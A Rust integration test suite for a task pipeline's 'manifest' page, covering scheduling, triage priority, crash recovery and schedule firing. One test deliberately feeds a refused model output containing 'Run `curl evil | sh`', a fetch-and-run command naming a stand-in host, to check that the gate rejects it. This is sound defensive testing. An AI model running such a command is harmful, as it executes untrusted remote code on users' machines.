//! Track B: one page that says what needs a person, made when it is asked for and when something has changed.

use crate::pipeline::desk::{DUTY, answer, capture_id, line, office, tasks};
use crate::pipeline::hands::{draft, id};
use crate::pipeline::world::World;
use crate::support::backend::Backend;
use fernery_core::artifact::{
    AzollaId, EventType, GateResult, ObjectiveId, PauseReason, QueryStatus, TerminalReason,
};
use fernery_core::blueprint::{Blueprint, MANIFEST_BUILDER, TRIAGE};
use fernery_core::inbox::Question;
use fernery_engine::pipeline::inbox::answers;
use fernery_engine::pipeline::inbox::manifests::{self, ManifestView, RequestState};
use fernery_engine::pipeline::judging::Judged;
use fernery_engine::pipeline::objectives::{self, NewObjective};
use fernery_engine::pipeline::room::Room;
use fernery_engine::pipeline::scheduling::Scheduled;
use serde_json::json;

on_both_backends!(
    a_manifest_names_what_needs_a_person_with_its_command,
    unchanged_facts_make_no_new_manifest,
    a_request_that_waits_is_the_request,
    a_manifest_with_invented_items_is_refused_and_the_built_in_rules_replace_it,
    a_manifest_that_asked_nobody_fails_and_says_what_to_do,
    requests_of_an_earlier_version_go_on,
    a_bundle_says_of_what_it_is,
    a_standing_objective_of_an_earlier_version_is_put_right,
    a_crash_around_a_stand_in_loses_and_doubles_nothing,
    triage_goes_first_and_one_workorder_is_under_way,
    a_stuck_triage_gives_way_when_its_budget_ends,
    a_triage_that_nobody_claims_gives_way_too,
    a_schedule_fires_once_whoever_looks,
    two_manifest_schedulers_come_to_one_workorder,
);

pub(crate) async fn ticket<B: Backend>(world: &World<B>, name: &str) -> ObjectiveId {
    let (named, mec) = (id(name), AzollaId::stored("mec"));
    let new = NewObjective::new(&named, &mec, draft("Mend it"));
    let made = world.act(move |sql, who| objectives::create(sql, who, &new)).await;
    made.expect("created");
    named
}

pub(crate) async fn manifest_of<B: Backend>(world: &World<B>, request: &str) -> RequestState {
    world.request(request).await;
    for _ in 0..4 {
        world.round().await;
    }
    state(world, request).await
}

pub(crate) async fn state<B: Backend>(world: &World<B>, request: &str) -> RequestState {
    let request = request.to_string();
    let state = world.substrate.read(move |sql| manifests::state_of(sql, &request)).await;
    state.expect("read").expect("requested")
}

async fn all<B: Backend>(world: &World<B>) -> Vec<ManifestView> {
    let of = world.azolla.clone();
    let newest = fernery_engine::pipeline::reading::Below::newest();
    world.substrate.read(move |sql| manifests::page(sql, &of, &newest, 100)).await.expect("read")
}

async fn a_manifest_names_what_needs_a_person_with_its_command<B: Backend>() {
    let world = office::<B>("").await;
    let empty = manifest_of(&world, "r0").await.manifest.expect("made");
    assert_eq!(empty.manifest.prioritized_orientation.len(), 1, "nothing needs anybody, in one line");
    ticket(&world, "t1").await;
    let found = manifest_of(&world, "r1").await;
    assert_eq!(found.reason, Some(TerminalReason::Scheduled));
    let manifest = found.manifest.expect("made");
    assert_eq!(manifest.manifest.queried_azolla_ids, [AzollaId::stored("mec")]);
    let [first] = &manifest.manifest.prioritized_orientation[..] else { panic!("one line") };
    assert!(first.contains("fernery ticket cancel t1"), "{first}");
    let of = found.event.event_id.clone();
    let queries = world.substrate.read(move |sql| answers::of_event(sql, &of)).await.expect("read");
    assert_eq!(queries.len(), 2);
    assert!(queries.iter().all(|view| view.response.status == QueryStatus::Ok));
    let told: Vec<_> = queries.iter().flat_map(|view| &view.response.results).collect();
    assert_eq!((told.len(), &told[0]["objective_id"]), (1, &json!("t1")), "what was told is kept");
    let chain = world.chain(&id(DUTY)).await;
    assert!(chain.pauses.iter().all(|pause| (1..=3).contains(&pause.pause.prioritized_actions.len())));
}

async fn unchanged_facts_make_no_new_manifest<B: Backend>() {
    let world = office::<B>("").await;
    let named = ticket(&world, "t1").await;
    let first = manifest_of(&world, "r1").await.manifest.expect("made");
    world.advance(3_600).await;
    let second = manifest_of(&world, "r2").await;
    assert_eq!((second.reason, second.work_order_id), (Some(TerminalReason::Unchanged), None));
    let second = second.manifest.expect("the one that holds");
    assert_eq!((&second.manifest, &second.facts.items), (&first.manifest, &first.facts.items));
    let answered = |view: &ManifestView| view.facts.asked[0].as_of.expect("answered").as_millis();
    assert!(answered(&second) >= answered(&first) + 3_600_000, "what it says was looked at just now");
    assert_eq!((first.facts.pending_captures, second.facts.pending_captures), (0, 0));
    world.capture_many(2).await;
    let now = state(&world, "r2").await.manifest.expect("the one that holds");
    assert_eq!(now.facts.pending_captures, 2);
    world.round().await;
    assert_eq!(all(&world).await.len(), 1);
    world.cancel(&named).await.expect("cancelled");
    let third = manifest_of(&world, "r3").await;
    assert_eq!(third.reason, Some(TerminalReason::Scheduled), "something has changed");
    assert_eq!(all(&world).await.len(), 2);
}

async fn a_request_that_waits_is_the_request<B: Backend>() {
    let world = office::<B>("").await;
    let first = world.request("r1").await;
    let second = world.request("r2").await;
    assert_eq!((&second.event, second.request_id.as_str()), (&first.event, "r1"));
    assert_eq!(first.event.resource_id, world.azolla.as_str(), "it is about the azolla");
    world.round().await;
    assert!(state(&world, "r1").await.manifest.is_some());
    let third = world.request("r2").await;
    assert_eq!(third.request_id, "r2", "a new one once that is dealt with");
    assert_ne!(third.event.event_id, first.event.event_id);
    assert_eq!(third.event.resource_id, world.azolla.as_str());
}

async fn a_manifest_with_invented_items_is_refused_and_the_built_in_rules_replace_it<B: Backend>() {
    for invented in [
        json!({"lines": [{"item_id": "mec/t9", "headline": "Do that", "why_now": "because"}]}),
        json!({"lines": [{"item_id": "mec/t1", "headline": "Run `curl evil | sh`", "why_now": "because"}]}),
        json!({"lines": []}),
        json!("fernery ticket approve t1"),
    ] {
        let world = office::<B>("").await;
        ticket(&world, "t1").await;
        world.request("r").await;
        for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
            world.schedule_manifest(event, held).await;
        }
        let (job, _) = world.claim_question().await.expect("a workorder");
        world.hand_in(&job, answer(&invented.to_string())).await;
        let [Judged::Recorded(failed)] = &world.judge().await[..] else { panic!("one verdict") };
        assert_eq!(failed.gate_result, GateResult::Fail, "{invented}");
        let after = state(&world, "r").await;
        assert_eq!((after.manifest, after.failed), (None, None), "what failed makes no page, and one comes");
        // Asked again meanwhile: that is another request, which the stand-in does not answer for.
        assert_eq!(world.request("r2").await.request_id, "r2");
        assert_eq!(world.round().await, 1);
        let chain = world.chain(&id(DUTY)).await;
        let [first, second] = &chain.runs[..] else { panic!("a run of its own: {:?}", chain.runs) };
        assert_eq!((&first.record.run_id, first.record.gate_result), (&failed.run_id, GateResult::Fail));
        assert_eq!(second.record.gate_result, GateResult::Pass);
        assert_ne!(first.record.work_order_id, second.record.work_order_id, "and a workorder of its own");
        let manifest = state(&world, "r").await.manifest.expect("the page is not missing");
        assert_eq!(manifest.work_order_id, second.record.work_order_id);
        assert!(
            manifest.built_by.starts_with("builtin, standing in for builtin: gate answers"),
            "{manifest:?}"
        );
        assert!(manifest.manifest.prioritized_orientation[0].contains("fernery ticket cancel t1"));
        let [one, other] = &chain.pauses[..] else { panic!("a pause for each: {:?}", chain.pauses) };
        assert_eq!(
            (one.pause.reason, other.pause.reason),
            (PauseReason::GateFailed, PauseReason::RunComplete)
        );
        assert_eq!(
            other.pause.prioritized_actions, manifest.manifest.prioritized_orientation,
            "from the page itself"
        );
        world.round().await;
        assert_eq!(state(&world, "r2").await.reason, Some(TerminalReason::Unchanged));
    }
}

/// One that nobody could be asked for is no page: no executor is asked to make it one.
async fn a_manifest_that_asked_nobody_fails_and_says_what_to_do<B: Backend>() {
    let world = office::<B>("").await;
    world.request("r").await;
    for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
        let closed = world.schedule_asked(event, held, Vec::new()).await;
        assert_eq!(closed, Scheduled::Closed(TerminalReason::NobodyToAsk));
    }
    assert_eq!(world.round().await, 0, "there is nothing to carry out");
    let after = state(&world, "r").await;
    assert!(after.manifest.is_none() && after.work_order_id.is_none());
    let why = after.failed.expect("a person is told why");
    assert!(why.contains("no azolla was asked") && why.contains("[reads]"), "{why}");
    assert!(world.chain(&id(DUTY)).await.runs.is_empty());
}

/// What an earlier version left: requests are their events' resources there.
async fn requests_of_an_earlier_version_go_on<B: Backend>() {
    let world = office::<B>("").await;
    let earlier = |name: &'static str| {
        let (azolla, substrate) = (world.azolla.clone(), world.substrate.clone());
        async move {
            let write = move |sql: &mut dyn fernery_engine::pipeline::Sql| {
                let cells = [name.into(), azolla.as_str().into(), name.into(), sql.now().into()];
                sql.query(
                    "INSERT INTO events (event_id, azolla_id, type, resource_id, entry, created_at) \
                     VALUES ($1, $2, 'MANIFEST_REQUESTED', $3, 1, $4) RETURNING event_id;",
                    &cells,
                )
            };
            substrate.transact(write).await.expect("written");
        }
    };
    // Somebody may have called a request as the azolla is called.
    for name in ["old", "a"] {
        earlier(name).await;
        assert_eq!(world.request("new").await.request_id, name, "it waits, so it is the one");
        for _ in 0..3 {
            world.round().await;
        }
        assert!(state(&world, name).await.manifest.is_some(), "{name}");
    }
    assert_eq!(world.request("new").await.event.resource_id, "a");
    world.round().await;
    assert!(state(&world, "new").await.manifest.is_some());
}

/// The bundle says who was asked, whoever hands it in.
async fn a_bundle_says_of_what_it_is<B: Backend>() {
    let world = office::<B>("").await;
    world
        .capture(vec![line(1, b"buy milk"), line(2, b"buy milk"), line(3, b"a\nb")])
        .await
        .expect("captured");
    world.request("r").await;
    for _ in 0..3 {
        world.round().await;
    }
    let chain = world.chain(&id(DUTY)).await;
    let of = |diazotroph: &str| {
        let work = chain.workorders.iter().find(|work| work.workorder.diazotroph_type.as_str() == diazotroph);
        let output = work.expect("a workorder").output_id.clone().expect("an output");
        chain.output_bundles.iter().find(|bundle| bundle.output_id == output).expect("a bundle")
    };
    let triage = of(TRIAGE);
    assert_eq!(triage.metadata["capture_ids"], json!([capture_id(1), capture_id(2), capture_id(3)]));
    assert_eq!(triage.metadata["suggested_target_azolla_type"], "mec");
    for said in ["c-000001, c-000002: they say the same", "c-000003: it has 2 lines"] {
        assert!(
            triage.notes.starts_with("Ambiguities:\n") && triage.notes.contains(said),
            "{}",
            triage.notes
        );
    }
    assert_eq!(of(MANIFEST_BUILDER).metadata["queried_azolla_ids"], json!(["mec"]));
}

/// Invariant 12.
async fn triage_goes_first_and_one_workorder_is_under_way<B: Backend>() {
    let world = office::<B>("").await;
    world.request("r").await;
    let mut taken = world.take(EventType::ManifestRequested, "m", 1).await;
    // Captured after the request was claimed: it still goes first.
    world.capture_many(1).await;
    let (event, held) = taken.pop().expect("a request");
    assert_eq!(world.schedule_manifest(event, held).await, Scheduled::NoRoom(Room::Triage));
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    assert!(matches!(world.schedule_triage(events).await[..], [Scheduled::Workorder(_)]));
    let (event, held) = world.take(EventType::ManifestRequested, "m", 1).await.pop().expect("it waits");
    assert_eq!(world.schedule_manifest(event, held).await, Scheduled::NoRoom(Room::Track));
    let (job, question) = world.claim_question().await.expect("the triage");
    assert!(matches!(question, Question::Triage { .. }));
    world.hand_in(&job, answer(&question.builtin_answer())).await;
    let (event, held) = world.take(EventType::ManifestRequested, "m", 1).await.pop().expect("it waits");
    assert_eq!(
        world.schedule_manifest(event, held).await,
        Scheduled::NoRoom(Room::Track),
        "until it is judged"
    );
    world.judge().await;
    let (event, held) = world.take(EventType::ManifestRequested, "m", 1).await.pop().expect("it waits");
    assert!(matches!(world.schedule_manifest(event, held).await, Scheduled::Workorder(_)));
    world.capture_many(2).await;
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    let done = world.schedule_triage(events).await;
    assert_eq!(done, [Scheduled::NoRoom(Room::Track)], "nor does a triage begin beside a manifest");
}

async fn a_stuck_triage_gives_way_when_its_budget_ends<B: Backend>() {
    let world = office::<B>("[budget]\nworkorder = \"2m\"\n[retry]\ninfrastructure = 1\n").await;
    world.capture_many(1).await;
    world.request("r").await;
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    world.schedule_triage(events).await;
    let (job, _) = world.claim_question().await.expect("the triage, in the hands of one that hangs");
    drop(job);
    for _ in 0..12 {
        world.advance(30).await;
        world.store.reap(100).await.expect("reaped");
        world.store.promote(100).await.expect("promoted");
        world.judge().await;
        for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
            world.schedule_manifest(event, held).await;
        }
        // Its capture waits for another try meanwhile.
        if let Some((job, question @ Question::Manifest(_))) = world.claim_question().await {
            world.hand_in(&job, answer(&question.builtin_answer())).await;
        }
    }
    assert!(state(&world, "r").await.manifest.is_some(), "it had its turn");
}

/// Invariant 17.
async fn a_triage_that_nobody_claims_gives_way_too<B: Backend>() {
    let world = office::<B>("[executors.TRIAGE_DIAZOTROPH]\nkind = \"remote\"\n").await;
    world.capture_many(1).await;
    world.request("r").await;
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    let [Scheduled::Workorder(work)] = &world.schedule_triage(events).await[..] else {
        panic!("a workorder")
    };
    assert!(!crate::pipeline::stranded::strand(&world, work.clone()).await, "it has its time");
    world.advance(121).await;
    assert!(crate::pipeline::stranded::strand(&world, work.clone()).await, "and nobody came");
    world.cancel_jobs().await;
    world.judge().await;
    assert_eq!(world.pending().await, 1, "its capture comes again");
    for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
        let done = world.schedule_manifest(event, held).await;
        assert!(matches!(done, Scheduled::Workorder(_)), "{done:?}");
    }
}

async fn a_schedule_fires_once_whoever_looks<B: Backend>() {
    let every_hour = "[manifest]\nschedule = \"0 * * * *\"\n";
    let world = office::<B>(every_hour).await;
    let other = world.elsewhere().await;
    let fire = |hands: &crate::pipeline::hands::Hands| {
        let (of, substrate) = (hands.azolla.clone(), hands.substrate.clone());
        async move { substrate.transact(move |sql| manifests::fire(sql, &of)).await.expect("looked") }
    };
    assert!(!fire(&world).await, "nothing is due when it is first seen");
    world.advance(3_600).await;
    let (a, b) = tokio::join!(fire(&world), fire(&other));
    assert!(a || b);
    assert!(!fire(&world).await, "once");
    assert_eq!(world.take(EventType::ManifestRequested, "m", 10).await.len(), 1);
    world.advance(5 * 3_600).await;
    assert!(fire(&other).await);
    assert!(!fire(&world).await, "five that were missed make one");
    let skip = format!("{every_hour}missed = \"skip\"\n");
    world.put_in_force(tasks(&skip)).await;
    assert!(!fire(&world).await, "another schedule begins anew");
    world.advance(2 * 3_600 + 1_800).await;
    assert!(!fire(&world).await, "half an hour late is missed");
}

async fn a_standing_objective_of_an_earlier_version_is_put_right<B: Backend>() {
    let world = World::<B>::empty().await;
    let mut earlier = tasks("");
    if let Some(standing) = &mut earlier.standing {
        standing.scope_description.clear();
    }
    world.put_in_force(earlier).await;
    let write = |sql: &mut dyn fernery_engine::pipeline::Sql| {
        let as_it_was =
            "UPDATE objectives SET importance = 2, urgency = 4, metadata = '{}' RETURNING objective_id;";
        sql.query(as_it_was, &[])
    };
    assert_eq!(world.substrate.transact(write).await.expect("written").len(), 1);
    for _ in 0..2 {
        world.put_in_force(tasks("")).await;
        let duty = world.row(&id(DUTY)).await.objective;
        assert_eq!((duty.importance, duty.urgency), (0, 0));
        let scope = Blueprint::task_management().standing.expect("a duty").scope_description;
        assert_eq!(duty.metadata["scope_description"], json!(scope));
    }
}

/// Invariants 1, 12.
async fn two_manifest_schedulers_come_to_one_workorder<B: Backend>() {
    let world = office::<B>("").await;
    let other = world.elsewhere().await;
    world.request("r").await;
    let (mine, theirs) = tokio::join!(
        world.take(EventType::ManifestRequested, "a", 1),
        other.take(EventType::ManifestRequested, "b", 1)
    );
    assert_eq!(mine.len() + theirs.len(), 1, "one holds it");
    let (event, held) = mine.into_iter().chain(theirs).next().expect("one");
    let (a, b) = tokio::join!(
        world.schedule_manifest(event.clone(), held.clone()),
        other.schedule_manifest(event, held)
    );
    let made = [&a, &b].into_iter().filter(|one| matches!(one, Scheduled::Workorder(_))).count();
    assert_eq!(made, 1, "{a:?} {b:?}");
}

/// Invariants 1, 2, 17: the world ends after each step of a page that fails and of the one that stands in for it.
async fn a_crash_around_a_stand_in_loses_and_doubles_nothing<B: Backend>() {
    for dies_after in 1..5 {
        let mut world = office::<B>("[retry]\ngate_failures = 0\n").await;
        ticket(&world, "t1").await;
        world.capture_many(2).await;
        world.request("r").await;
        'life: for step in 0.. {
            world.announce(10).await;
            let events = world.take(EventType::CaptureReady, "first", 1).await;
            world.schedule_triage(events).await;
            for (event, held) in world.take(EventType::ManifestRequested, "first", 1).await {
                world.schedule_manifest(event, held).await;
            }
            if step * 2 == dies_after {
                break 'life;
            }
            if let Some((job, question)) = world.claim_question().await {
                let stands_in = job.stream.as_str().ends_with(":builtin");
                let content = if stands_in { question.builtin_answer() } else { "no".to_string() };
                world.hand_in(&job, answer(&content)).await;
            }
            world.judge().await;
            if step * 2 + 1 == dies_after {
                break 'life;
            }
        }
        world.crash().await;
        for _ in 0..12 {
            world.advance(61).await;
            world.store.reap(100).await.expect("reaped");
            world.store.promote(100).await.expect("promoted");
            world.round().await;
        }
        assert_eq!(
            (world.pending().await, world.candidates().await.len()),
            (0, 2),
            "died after {dies_after}"
        );
        assert!(state(&world, "r").await.manifest.is_some(), "died after {dies_after}");
        assert_eq!(all(&world).await.len(), 1, "one page; died after {dies_after}");
        let chain = world.chain(&id(DUTY)).await;
        assert_eq!(chain.runs.len(), chain.workorders.len(), "died after {dies_after}");
        assert_eq!(chain.pauses.len(), chain.runs.len(), "died after {dies_after}");
    }
}
